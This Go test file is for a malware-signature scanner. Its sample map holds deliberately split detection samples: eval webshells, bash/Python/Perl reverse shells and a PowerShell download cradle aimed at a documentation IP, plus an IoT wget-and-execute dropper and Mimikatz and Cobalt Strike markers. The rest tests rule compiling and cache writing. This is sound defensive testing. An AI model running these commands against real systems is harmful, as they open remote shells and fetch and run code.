package rules_test

import (
	"encoding/binary"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/showcause/showcause"
	"github.com/showcause/showcause/ruledb"
	"github.com/showcause/showcause/rules"
	"github.com/showcause/showcause/scan"
)

// samples fire each rule. They are written in pieces ("~" is taken out) so that
// no file of the project holds what the rules look for.
var samples = map[string]string{
	"Showcause.Test.EICAR":              `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-~ANTIVIRUS-TEST-FILE!$H+H*`,
	"Showcause.Webshell.PHP.EvalInput":  "<?php Ev~al($_PO~ST['x']); ?>",
	"Showcause.Webshell.PHP.EvalPacked": "<?php ev~al(gzin~flate(base64_de~code('abc'))); ?>",
	"Showcause.Webshell.JSP.ExecInput":  `<% Runtime.getRun~time().exec(request.getPara~meter("c")); %>`,
	"Showcause.Webshell.ASP.EvalInput":  `<%@ Page Language="Jscript"%><%ev~al(Request.It~em["x"],"unsafe");%>`,
	"Showcause.ReverseShell.Bash":       "bash -~i >& /dev/t~cp/192.0.2.1/4444 0>~&1",
	"Showcause.ReverseShell.Python":     "s=socket.socket(socket.AF_INET,socket.SOCK_ST~REAM);s.conn~ect((\"192.0.2.1\",1));os.du~p2(s.fileno(),0);pty.sp~awn(\"/bin/sh\")",
	"Showcause.ReverseShell.Perl":       `use Soc~ket;connect(S,$a);open(STD~IN,">&S");exec("/bin/~sh -i");`,
	"Showcause.Downloader.PowerShell":   "powershell -w hid~den IE~X (New-Object Net.Web~Client).Download~String('http://192.0.2.1/a')",
	"Showcause.Dropper.IoT.Shell":       "cd /tmp || cd /var/~run || cd /m~nt; wget http:/~/192.0.2.1/a; chmod 77~7 a; ./a",
	"Showcause.HackTool.Mimikatz":       "MZ" + wide("seku~rlsa") + wide("logon~passwords") + wide("gentil~kiwi"),
	"Showcause.Backdoor.Meterpreter":    "MZ met~srv.dll Reflective~Loader",
	"Showcause.Backdoor.CobaltStrike":   "MZ bea~con.x64.dll Reflective~Loader",
}

func wide(s string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteRune(r)
		if r != '~' {
			b.WriteByte(0)
		}
	}
	return b.String()
}

// program puts text into the smallest PE file that is one.
func program(text string) []byte {
	b := make([]byte, 0x200)
	copy(b, "MZ")
	le := binary.LittleEndian
	le.PutUint32(b[0x3c:], 0x40)
	copy(b[0x40:], "PE\x00\x00")
	le.PutUint16(b[0x44:], 0x14c) // machine: i386
	le.PutUint16(b[0x46:], 1)     // sections
	le.PutUint16(b[0x54:], 0xe0)  // size of the optional header
	le.PutUint16(b[0x56:], 0x102)
	opt := b[0x58:]
	le.PutUint16(opt, 0x10b)
	le.PutUint32(opt[16:], 0x1000) // entry point
	le.PutUint32(opt[28:], 0x400000)
	le.PutUint32(opt[32:], 0x1000)
	le.PutUint32(opt[36:], 0x200)
	le.PutUint32(opt[56:], 0x2000)
	le.PutUint32(opt[60:], 0x200)
	le.PutUint32(opt[92:], 16)
	sec := opt[0xe0:]
	copy(sec, ".text")
	le.PutUint32(sec[8:], uint32(len(text)))
	le.PutUint32(sec[12:], 0x1000)
	le.PutUint32(sec[16:], 0x200)
	le.PutUint32(sec[20:], 0x200)
	le.PutUint32(sec[36:], 0x60000020)
	return append(b, append([]byte(text), make([]byte, 0x200)...)...)
}

func TestBuiltin(t *testing.T) {
	db, err := rules.Default()
	if err != nil {
		t.Fatal(err)
	}
	s := scan.New(db, scan.Options{})
	names := func(b []byte) (out []string) {
		for _, f := range s.Scan(showcause.Bytes(b)).Findings {
			out = append(out, f.Rule)
		}
		return out
	}
	if db.Len() != len(samples) {
		t.Errorf("%d rules, %d samples", db.Len(), len(samples))
	}
	for name, text := range samples {
		b := []byte(strings.ReplaceAll(text, "~", ""))
		if text, ok := strings.CutPrefix(string(b), "MZ"); ok {
			b = program(text)
		}
		if got := names(b); len(got) != 1 || got[0] != name {
			t.Errorf("%s: found %v", name, got)
		}
		// What the rule looks for is not there once its parts are cut.
		if got := names([]byte(strings.ReplaceAll(text, "~", "\x00\x00"))); len(got) != 0 {
			t.Errorf("%s, in pieces: found %v", name, got)
		}
	}
}

// The files of this machine are what "zero hits on a Debian system" is tried on.
func TestBuiltinOnSystem(t *testing.T) {
	if testing.Short() {
		t.Skip("reads /usr/bin, /usr/sbin and /usr/share/doc: left out by -short")
	}
	db, err := rules.Default()
	if err != nil {
		t.Fatal(err)
	}
	s := scan.New(db, scan.Options{})
	files := 0
	for _, root := range []string{"/usr/bin", "/usr/sbin", "/usr/share/doc"} {
		filepath.WalkDir(root, func(path string, e fs.DirEntry, err error) error {
			if err != nil || !e.Type().IsRegular() {
				return nil
			}
			b, err := os.ReadFile(path)
			if err != nil {
				return nil
			}
			files++
			for _, f := range s.Scan(showcause.Bytes(b)).Findings {
				t.Errorf("%s %s: %s", path, f.Trail, f.Rule)
			}
			return nil
		})
	}
	if files == 0 {
		t.Skip("no files in /usr/bin, /usr/sbin and /usr/share/doc")
	}
	t.Logf("%d files", files)
}

func TestCompileRefuses(t *testing.T) {
	dir := t.TempDir()
	if _, err := rules.Compile([]string{dir}, rules.Options{}); err == nil {
		t.Error("an empty folder compiles")
	}
	if _, err := rules.Compile([]string{filepath.Join(dir, "gone.ndb")}, rules.Options{}); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a missing file: %v", err)
	}
}

// A write that fails leaves the old file as it was, and nothing else.
func TestWriteKeepsOld(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "x.scdb")
	if err := rules.Write(path, []byte("old")); err != nil {
		t.Fatal(err)
	}
	if os.Getuid() != 0 {
		os.Chmod(dir, 0o500)
		defer os.Chmod(dir, 0o700)
		if err := rules.Write(path, []byte("new")); err == nil {
			t.Error("written to a folder that may not be written to")
		}
	}
	if err := rules.Write("/dev/full/x", []byte("new")); err == nil {
		t.Error("written below a device")
	}
	if b, err := os.ReadFile(path); err != nil || string(b) != "old" {
		t.Errorf("%q %v", b, err)
	}
	if files, _ := os.ReadDir(dir); len(files) != 1 {
		t.Errorf("files left over: %v", files)
	}
}

func TestCached(t *testing.T) {
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	dir := t.TempDir()
	file := filepath.Join(dir, "a.ndb")
	write := func(s string) {
		if err := os.WriteFile(file, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	open := func() *ruledb.DB {
		t.Helper()
		db, warning, err := rules.Cached([]string{dir}, rules.Options{}, func() {})
		if err != nil || warning != nil {
			t.Fatal(err, warning)
		}
		return db
	}
	write("A:0:*:61626364\n")
	if db := open(); db.Len() != 1 {
		t.Errorf("%d rules", db.Len())
	}
	cache, _ := filepath.Glob(filepath.Join(os.Getenv("XDG_CACHE_HOME"), "showcause", "*.scdb"))
	if len(cache) != 1 {
		t.Fatalf("cache: %v", cache)
	}
	if db := open(); db.Len() != 1 {
		t.Errorf("from the cache: %d rules", db.Len())
	}
	write("A:0:*:61626364\nB:0:*:65666768\n")
	if db := open(); db.Len() != 2 {
		t.Errorf("after a change: %d rules", db.Len())
	}
	// A damaged entry is said and made again.
	for _, c := range cache {
		os.WriteFile(c, []byte("damage"), 0o644)
	}
	all, _ := filepath.Glob(filepath.Join(os.Getenv("XDG_CACHE_HOME"), "showcause", "*.scdb"))
	for _, c := range all {
		os.WriteFile(c, []byte("damage that is long enough to be looked at as a file"), 0o644)
	}
	db, warning, err := rules.Cached([]string{dir}, rules.Options{}, func() {})
	if err != nil || warning == nil || db.Len() != 2 {
		t.Errorf("damaged cache: %v, warning %v", err, warning)
	}
	// A cache that cannot be had.
	t.Setenv("XDG_CACHE_HOME", "/dev/null")
	db, warning, err = rules.Cached([]string{dir}, rules.Options{}, func() {})
	if err != nil || warning == nil || db.Len() != 2 {
		t.Errorf("no cache: %v, warning %v", err, warning)
	}
}

// What stands at the path decides: a file keeps its mode, a link its place,
// and what is no file is refused.
func TestWriteModes(t *testing.T) {
	dir := t.TempDir()
	path, link := filepath.Join(dir, "x.scdb"), filepath.Join(dir, "link")
	if err := os.WriteFile(path, []byte("old"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(path, link); err != nil {
		t.Fatal(err)
	}
	if err := rules.Write(link, []byte("new")); err != nil {
		t.Fatal(err)
	}
	st, err := os.Lstat(link)
	if err != nil || st.Mode()&fs.ModeSymlink == 0 {
		t.Errorf("the link was replaced: %v %v", st.Mode(), err)
	}
	st, err = os.Stat(path)
	if err != nil || st.Mode().Perm() != 0o600 {
		t.Errorf("mode %v %v", st.Mode(), err)
	}
	if b, _ := os.ReadFile(path); string(b) != "new" {
		t.Errorf("%q", b)
	}
	if err := rules.Write(dir, []byte("new")); err == nil {
		t.Error("a folder was written to")
	}
}
